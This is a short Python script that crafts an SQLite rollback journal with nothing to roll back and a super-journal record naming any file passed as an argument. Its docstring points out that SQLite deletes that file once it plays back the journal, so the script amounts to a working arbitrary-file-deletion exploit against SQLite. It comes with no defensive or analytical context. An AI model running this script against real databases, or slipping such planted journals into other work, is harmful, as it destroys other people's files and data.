#!/usr/bin/env python3
"""Writes a rollback journal of SQLite that has nothing to roll back, and names a file as its super-journal.

usage: super-journal.py JOURNAL FILE

SQLite deletes a super-journal when it has played back the last journal that names it: the file format's
section 3.
"""

import struct
import sys

PAGE, SECTOR = 4096, 512


def main():
    journal, name = sys.argv[1], sys.argv[2].encode()
    header = bytes.fromhex("d9d505f920a163d7") + struct.pack(">IIIII", 0, 7, 1, SECTOR, PAGE)
    lock_page = 0x40000000 // PAGE + 1
    record = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF)
    with open(journal, "wb") as file:
        file.write(header.ljust(SECTOR, b"\0") + record + bytes.fromhex("d9d505f920a163d7"))


main()
